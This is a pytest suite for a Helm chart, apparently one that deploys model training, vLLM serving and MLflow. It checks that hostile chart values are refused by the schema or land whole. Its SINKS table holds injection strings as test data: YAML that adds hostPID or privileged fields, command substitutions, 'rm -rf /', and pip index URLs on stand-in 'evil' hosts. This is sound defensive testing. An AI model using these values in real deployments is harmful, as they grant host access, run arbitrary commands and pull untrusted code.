"""Hostile chart values at the sinks that once let a value rewrite a pod spec or run as shell code: each is
refused by values.schema.json, or lands as one quoted string value that changes no manifest's shape and
appears in no `-c` script. Rendered by the real helm."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest
import yaml

from .conftest import CHART, Helm

ROOT = CHART.parents[1]
ALL_COMPONENTS = CHART / "ci" / "all-components-values.yaml"
EVAL = ROOT / "values" / "tiny-cpu" / "eval.yaml"  # the evaluation gate, with pip packages and MLflow


def nested(dotted: str, value: Any) -> dict[str, Any]:
    """{"a": {"b": value}} from "a.b"."""
    out: dict[str, Any] = {}
    for part in reversed(dotted.split(".")):
        out, value = {part: value}, {part: value}
    return out


def render(
    helm: Helm, tmp_path: Path, base: Path, key: str, value: Any
) -> tuple[int, str, list[dict[str, Any]]]:
    """helm template of `base` with `key` set to `value` (through a values file: no --set parsing)."""
    override = tmp_path / f"override-{abs(hash((key, json.dumps(value))))}.yaml"
    override.write_text(yaml.safe_dump(nested(key, value)))
    result = helm.run(
        "template", "hostile", str(CHART), "-n", "ns", "-f", str(base), "-f", str(override), check=False
    )
    docs = [d for d in yaml.safe_load_all(result.stdout) if d] if result.returncode == 0 else []
    return result.returncode, result.stderr, docs


def key_paths(node: Any, path: str = "") -> set[str]:
    """Every mapping key's path (list items by position), the manifests' shape."""
    if isinstance(node, dict):
        return {p for k, v in node.items() for p in {f"{path}.{k}"} | key_paths(v, f"{path}.{k}")}
    if isinstance(node, list):
        return {p for i, v in enumerate(node) for p in key_paths(v, f"{path}[{i}]")}
    return set()


def strings(node: Any, path: str = "") -> list[tuple[str, str]]:
    if isinstance(node, dict):
        return [s for k, v in node.items() for s in [(f"{path}.{k}", k)] + strings(v, f"{path}.{k}")]
    if isinstance(node, list):
        return [s for i, v in enumerate(node) for s in strings(v, f"{path}[{i}]")]
    return [(path, node)] if isinstance(node, str) else []


def shell_scripts(node: Any) -> list[str]:
    """The scripts of every `sh -c` / `bash -c` in a command or args list."""
    found = []
    if isinstance(node, dict):
        for value in node.values():
            found += shell_scripts(value)
    elif isinstance(node, list):
        if node and all(isinstance(x, str) for x in node) and "-c" in node[:-1]:
            found.append(node[node.index("-c") + 1])
        for value in node:
            found += shell_scripts(value)
    return found


def lands_whole(text: str, hostile: str) -> bool:
    """The hostile string is the whole value, a `--flag=` argument of its own, or one element of a JSON list."""
    if text == hostile or re.fullmatch(r"--[a-z-]+=" + re.escape(hostile), text):
        return True
    try:
        parsed = json.loads(text)
    except ValueError:
        return False
    return isinstance(parsed, list) and hostile in parsed


# (base values, key, a harmless value, hostile values): every hostile value must be refused or land whole
SINKS: list[tuple[Path, str, Any, list[Any]]] = [
    (ALL_COMPONENTS, "train.priorityClassName", "high", ["high\nhostPID: true", "high\n  privileged: true"]),
    (ALL_COMPONENTS, "vllm.priorityClassName", "high", ["x\nhostNetwork: true"]),
    (ALL_COMPONENTS, "storage.nfs.server", "nfs.example.internal",
     ["nfs.example.internal\n    hostPath: {path: /}", "nfs, path: /etc}", "$(reboot)"]),
    (ALL_COMPONENTS, "storage.nfs.path", "/exports/llm",
     ["/exports/llm\nhostPID: true", "/exports/llm, readOnly: false}", "/exports/$(touch /tmp/x)"]),
    (ALL_COMPONENTS, "hfToken.secretKey", "token", ["token}\n    hostPID: true", "token, optional: true"]),
    (ALL_COMPONENTS, "hfToken.secretName", "hf-token", ["hf-token, key: other}", "hf-token\nhostPID: true"]),
    (ALL_COMPONENTS, "mlflow.credentials.usernameKey", "username", ["user, name: other", "user}\nhostPID: true"]),
    (ALL_COMPONENTS, "mlflow.credentials.secretName", "mlflow-credentials", ["mlflow}\n  hostIPC: true"]),
    (ALL_COMPONENTS, "mlflow.trackingUri", "http://mlflow:5000", ["http://mlflow:5000\n- name: LD_PRELOAD"]),
    (ALL_COMPONENTS, "train.pipPackages", ["mlflow"],
     [["mlflow; rm -rf /"], ["--index-url=http://evil.example/simple"], ["-e", "git+http://evil"],
      ["mlflow --pre"], ["$(touch /tmp/x)"]]),
    (EVAL, "eval.pipPackages", ["mlflow"], [["mlflow`id`"], ["--extra-index-url=http://evil"], ["mlflow --pre"]]),
    (EVAL, "eval.scoresFile", "/storage/output/tiny/scores.json",
     ["$(touch /tmp/x)", "/storage/$(touch /tmp/x)", "/storage/x; touch /tmp/x", "/storage/x\nhostPID: true"]),
    (ALL_COMPONENTS, "fullnameOverride", "ci", ["ci\nhostPID: true", "ci: x"]),
    (ALL_COMPONENTS, "image.repository", "hiyouga/llamafactory", ["evil\n  securityContext: {privileged: true}"]),
    (ALL_COMPONENTS, "train.podLabels", {"team": "a"}, [{"team": "a\nhostPID: true"}, {"a: b\nc": "d"}]),
    (ALL_COMPONENTS, "vllm.servedModelName", "ci-all", ["ci\n- --trust-remote-code", "ci --trust-remote-code"]),
    (ALL_COMPONENTS, "vllm.extraArgs", ["--seed=1"], [["--seed=1; touch /tmp/x"], ["--seed=1\n--x"]]),
    (ALL_COMPONENTS, "experiment.name", "ci-all", ["ci\nhostPID: true"]),
]  # fmt: skip


@pytest.mark.parametrize(
    ("base", "key", "harmless", "hostile"),
    [(b, k, ok, bad) for b, k, ok, bads in SINKS for bad in bads],
    ids=[f"{k}-{i}" for _, k, _, bads in SINKS for i in range(len(bads))],
)
def test_a_hostile_value_is_refused_or_lands_whole(
    helm: Helm, tmp_path: Path, base: Path, key: str, harmless: Any, hostile: Any
) -> None:
    code, stderr, docs = render(helm, tmp_path, base, key, hostile)
    if code != 0:
        assert "values don't meet the specifications of the schema" in stderr, stderr
        return
    clean_code, clean_err, clean = render(helm, tmp_path, base, key, harmless)
    assert clean_code == 0, clean_err
    # same manifests, same keys: nothing was added to (or removed from) any object
    assert [(d["kind"], sorted(key_paths(d))) for d in docs] == [
        (d["kind"], sorted(key_paths(d))) for d in clean
    ]
    needles = [
        v
        for v in (
            hostile.values()
            if isinstance(hostile, dict)
            else hostile
            if isinstance(hostile, list)
            else [hostile]
        )
    ]
    for needle in needles:
        scripts = [s for d in docs for s in shell_scripts(d)]
        assert not [s for s in scripts if needle in s], f"{needle!r} reached a shell script"
        for doc in docs:
            if doc["kind"] == "ConfigMap":
                continue  # its files are data the pods read, not pod spec fields
            for path, text in strings(doc):
                if needle in text:
                    assert lands_whole(text, needle), f"{doc['kind']} {path}: {text!r}"


def test_the_secrets_sinks_land_as_references(helm3: Helm, tmp_path: Path) -> None:
    """Secret names and keys from the values end up as secretKeyRef fields, nowhere else."""
    _, _, docs = render(helm3, tmp_path, ALL_COMPONENTS, "hfToken.secretKey", "hf.token_1")
    download = next(d for d in docs if d["kind"] == "Job" and d["metadata"]["name"].endswith("-download"))
    env = {e["name"]: e for e in download["spec"]["template"]["spec"]["containers"][0]["env"]}
    assert env["HF_TOKEN"]["valueFrom"]["secretKeyRef"] == {"name": "hf-token", "key": "hf.token_1"}


def test_pip_packages_reach_boot_py_as_a_json_list_never_a_shell(helm3: Helm, tmp_path: Path) -> None:
    """The packages travel as a JSON list in PIP_PACKAGES to files/boot.py, which hands them to pip after `--`
    from a list argv: the containers that install them run no shell script at all."""
    _, _, docs = render(helm3, tmp_path, ALL_COMPONENTS, "train.pipPackages", ["mlflow>=2", "peft"])
    jobs = [d for d in docs if d["kind"] == "Job"]
    preflight = next(d for d in jobs if d["metadata"]["name"].endswith("-preflight"))
    train = next(d for d in jobs if d["metadata"]["labels"]["app.kubernetes.io/component"] == "train")
    for job in (preflight, train):
        container = job["spec"]["template"]["spec"]["containers"][0]
        env = {e["name"]: e.get("value") for e in container["env"]}
        assert json.loads(env["PIP_PACKAGES"]) == ["mlflow>=2", "peft"]
        assert container["command"][:2] == ["python3", "/scripts/boot.py"]
        assert not shell_scripts(container["command"])
    hooks = next(d for d in docs if d["kind"] == "ConfigMap" and d["metadata"]["name"].endswith("-hooks"))
    assert "boot.py" in hooks["data"]
